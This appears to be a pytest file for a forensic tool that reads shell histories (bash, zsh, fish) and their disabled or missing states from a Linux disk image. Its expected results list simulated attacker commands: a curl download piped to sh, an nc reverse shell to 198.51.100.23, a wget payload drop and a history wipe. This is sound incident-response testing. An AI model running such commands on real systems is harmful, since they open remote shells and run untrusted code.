"""Shell histories of bash, zsh and fish, with and without time stamps; disabled histories."""

from __future__ import annotations

import os
from datetime import timezone
from pathlib import Path

from breachkit.artifacts.linux.history import history_files, read_history
from breachkit.artifacts.rotated import Problems
from breachkit.artifacts.years import TimeContext
from breachkit.sources import RootSource
from tests.artifacts.conftest import DATA, put

PASSWD = b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nanna:x:1001:1001::/home/anna:/bin/zsh\n"


def test_all_shells(tmp_path: Path) -> None:
    put(tmp_path, "/etc/passwd", PASSWD)
    put(tmp_path, "/var/www/.bash_history", (DATA / "linux/history/bash_history").read_bytes())
    put(tmp_path, "/home/anna/.zsh_history", (DATA / "linux/history/zsh_history").read_bytes())
    put(
        tmp_path,
        "/root/.local/share/fish/fish_history",
        (DATA / "linux/history/fish_history").read_bytes(),
        mtime=1795309999,
    )
    os.symlink("/dev/null", tmp_path / "root/.bash_history")
    source = RootSource(str(tmp_path))
    problems = Problems()
    commands = list(read_history(source, TimeContext(timezone.utc, 0), problems))
    source.close()
    got = [(c.user, c.shell, c.command, c.time_ns // 10**9 if c.timed else None, c.source_line) for c in commands]
    assert got == [
        ("anna", "zsh", "curl -s http://198.51.100.23/x \\\n  | sh", 1795301500, 1),
        ("anna", "zsh", "history -c", 1795301600, 3),
        ("root", "fish", "nc -e /bin/sh 198.51.100.23 4444", 1795301700, 1),
        ("root", "fish", "echo hi", None, 3),
        ("www-data", "sh", "cd /tmp", 1795301400, 2),
        ("www-data", "sh", "wget http://198.51.100.23/b -O .X11-cache/b", 1795301410, 4),
        ("www-data", "sh", "ls -la", None, 5),
    ]
    assert commands[3].time_ns == 1795309999 * 10**9 and commands[3].flags == "time-from-file-mtime"
    assert problems.counts["history-disabled"] == 1
    assert commands[0].event().kind == "command"


def test_history_state_per_account_with_a_login_shell(tmp_path: Path) -> None:
    put(
        tmp_path,
        "/etc/passwd",
        PASSWD + b"ben:x:1002:1002::/home/ben:/bin/bash\ncarl:x:1003:1003::/home/carl:/bin/bash\n",
    )
    put(tmp_path, "/home/anna/.zsh_history", b": 1795301500:0;ls\n")
    put(tmp_path, "/home/ben/.bash_history", b"")
    (tmp_path / "home/carl").mkdir(parents=True)
    (tmp_path / "root").mkdir()
    os.symlink("/dev/null", tmp_path / "root/.bash_history")
    source = RootSource(str(tmp_path))
    try:
        states = {h.user: (h.path, h.state) for h in history_files(source)}
    finally:
        source.close()
    assert states == {
        "anna": ("/home/anna/.zsh_history", "present"),
        "ben": ("/home/ben/.bash_history", "empty"),
        "carl": ("/home/carl/.bash_history", "missing"),
        "root": ("/root/.bash_history", "disabled"),
    }  # www-data cannot log in (nologin): no judgement
